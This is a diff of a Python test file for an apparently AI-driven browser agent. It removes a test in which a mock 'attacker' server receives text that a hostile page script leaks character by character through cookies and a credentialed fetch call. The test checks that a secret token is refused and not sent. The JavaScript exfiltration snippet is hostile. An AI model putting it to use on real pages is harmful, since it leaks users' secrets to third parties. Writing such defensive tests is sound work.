@@ -23,16 +23,13 @@ from urllib.parse import urlsplit
 import pytest
 from agent_helpers import call, gofer_env, script
 from recording_server import RecordingServer, recording_servers
-from test_browse16_holders import _setting_cookies
 from test_cookie16_rotation import _plain
-from test_flow_page_channels import TOKEN, _page, _refused, loopback_websockets
+from test_flow_page_channels import TOKEN, _page, _refused
 
 from gofer.computer.browser import BrowserPool
 from gofer.events import ConfirmationRequested, Event, RunStatus
 
 pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]
-
-__all__ = ["loopback_websockets"]  # the fixture, used here too
 
 Seen = list[tuple[str, int]]
 """The ``sid`` each request to ``/api`` carried, and the status it was answered with."""
@@ -197,33 +194,6 @@ async def test_ordinary_accept_and_content_type_stay_quiet(tmp_path: Path) -> No
     assert status == RunStatus.FINISHED
     assert not _refused(events) and not [e for e in events if isinstance(e, ConfirmationRequested)]
     assert len(got) >= len(text), got
-
-
-_PLAIN_KEYS = ("document.cookie = 'd=' + encodeURIComponent(v.slice(-1)) + '; path=/'; "
-               "fetch('{a}/k', {{mode: 'no-cors', credentials: 'include'}}).catch(() => {{}})")
-
-
-@pytest.mark.usefixtures("loopback_websockets")  # Chromium's local network checks would stop what it fetches itself
-@pytest.mark.parametrize("token", [True, False])
-async def test_cookies_set_on_answers_left_to_chromium_are_the_servers(tmp_path: Path, token: bool) -> None:
-    # a plain path (no query) is left to Chromium: the large cookies its answers set are not the page's pieces, so
-    # they neither push the script's one-character cookies out of the stream nor ask
-    attacker, site = RecordingServer(), RecordingServer()
-    sent: list[str] = []
-    _setting_cookies(attacker, sent)
-    text = TOKEN if token else "tomatoes and basil grow well together"
-    with recording_servers(attacker, site):
-        site.pages["/page"] = _page(_PLAIN_KEYS.format(a=attacker.url))
-        status, events = await _run(tmp_path, site, text)
-        await asyncio.sleep(1)
-    assert status == RunStatus.FINISHED
-    assert not [e for e in events if isinstance(e, ConfirmationRequested)]
-    refused = _refused(events)
-    if token:
-        assert len(sent) >= 5 and TOKEN[:14] not in "".join(sent), sent
-        assert refused and "a few characters" in refused[0].reason, refused
-    else:
-        assert not refused and len(sent) == len(text), (refused, sent)
 
 
 _SESSION = "sid-0f3a9c7e5b1d"
